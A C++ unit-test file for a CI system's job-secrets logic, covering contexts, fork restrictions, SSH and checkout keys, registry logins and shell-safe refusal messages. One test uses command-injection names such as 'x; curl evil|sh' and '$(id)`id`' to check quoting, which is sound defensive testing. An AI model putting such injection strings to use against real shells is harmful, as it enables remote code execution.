#include "identity/job_secrets.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "adapters/memory/stores.h"
#include "identity/test_keys.h"
#include "model/secret.h"

namespace gyre::identity {
namespace {

using testing::ElementsAre;
using testing::HasSubstr;
using testing::IsEmpty;

class JobSecrets : public testing::Test {
protected:
    void SetUp() override {
        ASSERT_TRUE(stores_.project_store().add(shop_).ok());
        ASSERT_TRUE(stores_.project_store().add({.id = {"p2"}, .slug = "gh/acme/other"}).ok());
    }
    void set(const std::string& name, const std::string& value) {
        ASSERT_TRUE(vault_->put({SecretKind::project_variable, "p1", name}, value, {}).ok());
    }
    void context(const std::string& name, const std::string& variable = {}, const std::string& value = {},
                 const std::string& organization = "gh/acme") {
        const ContextId id{organization + name};
        ASSERT_TRUE(stores_.context_store().add({id, organization, name, {}}).ok());
        if (variable.empty()) return;
        ASSERT_TRUE(vault_->put({SecretKind::context_variable, id.text, variable}, value, {}).ok());
    }
    void allow(const std::string& context, const std::string& project) {
        ASSERT_TRUE(stores_.context_store().allow_only({"gh/acme" + context}, {"r-" + project, {project}}).ok());
    }
    Result<Environment> secrets(const std::vector<std::string>& contexts = {}, const std::string& fork = {}) {
        return secrets_of_job({*vault_, stores_.secret_store(), stores_.context_store()}, shop_, fork, contexts);
    }
    std::string refusal(const std::vector<std::string>& contexts) {
        const auto answer = secrets(contexts);
        EXPECT_EQ(answer.error().fault, Fault::denied);
        return answer.error().message;
    }

    const Project shop_{.id = {"p1"}, .slug = "gh/acme/shop"};
    memory::MemoryStores stores_;
    std::unique_ptr<Vault> vault_ =
        Vault::open(stores_.secret_store(), [] { return KeyRing::parse(std::string(64, 'a')); }).value();
};

TEST_F(JobSecrets, are_the_projects_and_then_those_of_each_context_in_its_order) {
    set("A", "project");
    context("one", "A", "first");
    context("two", "A", "second");
    EXPECT_THAT(*secrets(), ElementsAre(EnvVar{"A", "project"}));
    EXPECT_THAT(*secrets({"two", "one"}),
                ElementsAre(EnvVar{"A", "project"}, EnvVar{"A", "second"}, EnvVar{"A", "first"}));
}

TEST_F(JobSecrets, a_context_that_is_not_there_is_refused_with_what_mends_it) {
    context("elsewhere", "A", "x", "gh/other");
    const auto why = refusal({"elsewhere"});
    EXPECT_THAT(why, HasSubstr("no context 'elsewhere' in the organization gh/acme"));
    EXPECT_THAT(why, HasSubstr("gyre context create gh/acme elsewhere"));
    context("elsewhere", "A", "mine");
    EXPECT_THAT(*secrets({"elsewhere"}), ElementsAre(EnvVar{"A", "mine"}));
}

TEST_F(JobSecrets, what_mends_a_refusal_may_be_copied_into_a_shell_whatever_the_context_is_called) {
    const std::pair<const char*, const char*> names[] = {
        {"deploy-2.x", "create gh/acme deploy-2.x')"},
        {"two words", "create gh/acme 'two words'')"},
        {"x; curl evil|sh", "create gh/acme 'x; curl evil|sh'')"},
        {"$(id)`id`", "create gh/acme '$(id)`id`'')"},
        {"it's;id", "create gh/acme 'it'\\''s;id'')"},
        {"a\nid", "create gh/acme 'a\nid'')"},
        {"--url=http://evil", "create gh/acme -- '--url=http://evil'')"},
        {"-v", "create gh/acme -- -v')"},
        {"~root", "create gh/acme '~root'')"},
        {"", "create gh/acme ''')"},
    };
    for (const auto& [name, command] : names) EXPECT_THAT(refusal({name}), HasSubstr(command));
    context("a b");
    allow("a b", "p2");
    EXPECT_THAT(refusal({"a b"}), HasSubstr("gyre context allow gh/acme 'a b' gh/acme/shop')"));
}

TEST_F(JobSecrets, a_refusal_tells_no_more_of_a_name_than_a_context_may_have) {
    EXPECT_THAT(refusal({std::string(100, 'x')}), HasSubstr("gyre context create gh/acme " + std::string(100, 'x')));
    const auto why = refusal({std::string(1 << 20, 'x')});
    EXPECT_LT(why.size(), 200U);
    EXPECT_THAT(why, HasSubstr("100 bytes"));
}

TEST_F(JobSecrets, a_context_of_other_projects_is_refused_until_this_one_is_let_in) {
    context("deploy", "A", "x");
    EXPECT_TRUE(secrets({"deploy"}).ok()) << "nobody restricted it";
    allow("deploy", "p2");
    EXPECT_THAT(refusal({"deploy"}), HasSubstr("gyre context allow gh/acme deploy gh/acme/shop"));
    allow("deploy", "p1");
    EXPECT_TRUE(secrets({"deploy"}).ok());
}

TEST_F(JobSecrets, one_refused_context_refuses_all) {
    set("A", "project");
    context("one", "A", "first");
    EXPECT_THAT(refusal({"one", "none"}), HasSubstr("'none'"));
}

TEST_F(JobSecrets, the_global_context_is_in_every_organization) {
    EXPECT_THAT(*secrets({"org-global"}), IsEmpty());
    context("org-global", "A", "x");
    EXPECT_THAT(*secrets({"org-global"}), ElementsAre(EnvVar{"A", "x"}));
    allow("org-global", "p2");
    EXPECT_THAT(refusal({"org-global"}), HasSubstr("restricted"));
}

TEST_F(JobSecrets, a_fork_is_given_none_unless_the_project_gives_them) {
    set("A", "project");
    context("one", "B", "first");
    EXPECT_THAT(*secrets({"one", "none"}, "gh/mallory/shop"), IsEmpty());
    ASSERT_TRUE(stores_.secret_store().give_to_forks({"p1"}, true).ok());
    EXPECT_EQ(secrets({"one"}, "gh/mallory/shop")->size(), 2U);
}

TEST_F(JobSecrets, ssh_keys_are_the_projects_own_and_no_forks) {
    const SecretPorts ports{*vault_, stores_.secret_store(), stores_.context_store()};
    ASSERT_TRUE(add_additional_key(*vault_, {"p2"}, "", ed25519_pkcs8(2), {}).ok());
    EXPECT_THAT(*ssh_keys_of_job(ports, shop_, ""), IsEmpty());
    ASSERT_TRUE(add_additional_key(*vault_, {"p1"}, "", ed25519_pkcs8(1), {}).ok());
    EXPECT_EQ(ssh_keys_of_job(ports, shop_, "")->size(), 1U);
    EXPECT_THAT(*secrets(), IsEmpty()) << "no variables";
    EXPECT_THAT(*ssh_keys_of_job(ports, shop_, "gh/mallory/shop"), IsEmpty());
    ASSERT_TRUE(stores_.secret_store().give_to_forks({"p1"}, true).ok());
    EXPECT_EQ(ssh_keys_of_job(ports, shop_, "gh/mallory/shop")->size(), 1U);
}

TEST_F(JobSecrets, of_checkout_keys_forks_agents_have_a_deploy_key_and_their_jobs_none) {
    const SecretPorts ports{*vault_, stores_.secret_store(), stores_.context_store()};
    EXPECT_FALSE(checkout_key_of_job(ports, shop_, "")->has_value());
    const auto add = [&](CheckoutKeyType type, char seed) {
        return add_checkout_key(*vault_, {"p1"}, type, ed25519_pkcs8(seed), Rank::preferred, {})->md5;
    };
    const auto user = add(CheckoutKeyType::user_key, 1);
    EXPECT_FALSE(checkout_key_of_job(ports, shop_, "gh/mallory/shop")->has_value()) << "it may open more";
    const auto deploy = add(CheckoutKeyType::deploy_key, 2);
    add(CheckoutKeyType::user_key, 3);
    ASSERT_TRUE(prefer_checkout_key(*vault_, {"p1"}, user, {}).ok());
    const auto own = checkout_key_of_job(ports, shop_, "").value();
    EXPECT_EQ(own->key.md5(), user);
    EXPECT_TRUE(own->for_job);
    const auto forks = checkout_key_of_job(ports, shop_, "gh/mallory/shop").value();
    EXPECT_EQ(forks->key.md5(), deploy);
    EXPECT_FALSE(forks->for_job);
    ASSERT_TRUE(stores_.secret_store().give_to_forks({"p1"}, true).ok());
    EXPECT_TRUE(checkout_key_of_job(ports, shop_, "gh/mallory/shop").value()->for_job);
}

TEST_F(JobSecrets, logins_are_the_organizations_for_the_registries_asked_for_and_no_forks) {
    const SecretPorts ports{*vault_, stores_.secret_store(), stores_.context_store()};
    const auto names = [&](const std::vector<std::string>& registries, const std::string& fork = {}) {
        std::vector<std::string> found;
        const auto logins = registry_logins_of_job(ports, shop_, fork, registries).value();
        for (const auto& one : logins) found.push_back(one.registry + " " + one.login->username);
        return found;
    };
    ASSERT_TRUE(stores_.project_store().add({.id = {"p3"}, .slug = "gh/other/shop"}).ok());
    const auto put = [&](const std::string& organization, const std::string& registry, const std::string& username) {
        ASSERT_TRUE(put_registry_login(*vault_, organization, registry, {username, "hunter2"}, {}).ok());
    };
    put("gh/acme", "ghcr.io", "robot");
    put("gh/acme", "docker.io", "hub");
    put("gh/other", "quay.io", "theirs");
    EXPECT_THAT(names({"ghcr.io", "quay.io"}), ElementsAre("ghcr.io robot"));
    EXPECT_THAT(names({}), IsEmpty());
    EXPECT_THAT(names({"ghcr.io", "docker.io"}, "gh/mallory/shop"), IsEmpty());
    ASSERT_TRUE(stores_.secret_store().give_to_forks({"p1"}, true).ok());
    EXPECT_THAT(names({"ghcr.io", "docker.io"}, "gh/mallory/shop"), ElementsAre("docker.io hub", "ghcr.io robot"));
}

TEST_F(JobSecrets, a_login_that_cannot_be_opened_stops_those_that_need_it_alone) {
    const SecretPorts ports{*vault_, stores_.secret_store(), stores_.context_store()};
    for (const char* registry : {"ghcr.io", "quay.io"})
        ASSERT_TRUE(put_registry_login(*vault_, "gh/acme", registry, {"robot", "hunter2"}, {}).ok());
    auto broken = stores_.secret_store().of(SecretKind::registry_login, "gh/acme")->front();
    broken.sealed.back() ^= 1;
    ASSERT_TRUE(stores_.secret_store().put(broken, most_registry_logins).ok());
    EXPECT_THAT(registry_logins_of_job(ports, shop_, "", {"ghcr.io"}).error().message, HasSubstr("ghcr.io"));
    EXPECT_EQ(registry_logins_of_job(ports, shop_, "", {"quay.io"})->size(), 1U);
}

TEST_F(JobSecrets, together_they_have_an_end) {
    for (int i = 0; i < 8; ++i) set("A" + std::to_string(i), std::string(largest_variable - 2, 'x'));
    EXPECT_TRUE(secrets().ok());
    set("B", "x");
    EXPECT_EQ(secrets().error().fault, Fault::too_large);
    EXPECT_THAT(refusal(std::vector<std::string>(101, "one")), HasSubstr("100"));
}

TEST_F(JobSecrets, a_store_that_is_away_is_no_refusal) {
    stores_.trouble().on("contexts.by_name", 1, memory::Mishap::fails);
    context("one");
    EXPECT_EQ(secrets({"one"}).error().fault, Fault::unavailable);
}

}  // namespace
}  // namespace gyre::identity
